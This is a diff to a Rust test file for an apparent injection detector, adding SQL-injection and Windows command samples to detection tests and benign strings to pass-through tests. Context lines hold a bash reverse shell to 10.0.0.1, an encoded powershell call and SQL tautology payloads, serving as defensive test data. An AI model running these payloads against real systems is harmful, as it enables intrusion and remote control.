@@ -66,6 +66,8 @@ fn finds_sql() {
             "1' && '1'='1",
             "' or true-- ",
             "0x31 or 0x1=0x1",
+            "1`=`1` and `1`=`1",
+            "INFORMATION_SCHEMA",
         ],
     );
 }
@@ -161,6 +163,8 @@ fn finds_commands() {
             "127.0.0.1\nls -la",
             "{cat,/tmp/x}",
             "; powershell -enc SQBFAFgA",
+            "for %a in (a,b) do x",
+            "if not exist a.txt echo x",
             "| dir c:\\",
             "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
         ],
@@ -297,6 +301,13 @@ fn lets_values_of_all_kinds_pass() {
         "id:>100 label:bug is:open",
         "status = 'open' AND assignee = 'bob'",
         "c/ san blas 88, 1-b",
+        "colorful `cat`",
+        "* Mark `Foo` as `#[must_use]`, and use `cargo fuzz` with it",
+        "Base32 encoder/decoder",
+        "Axel Beckert <axel@example.org>",
+        "Parses /etc/os-release files on several distributions",
+        "if it exists, for all of them",
+        "see the [guide](../guide.md) first",
     ] {
         let inspection = of_value(value);
         assert_eq!(
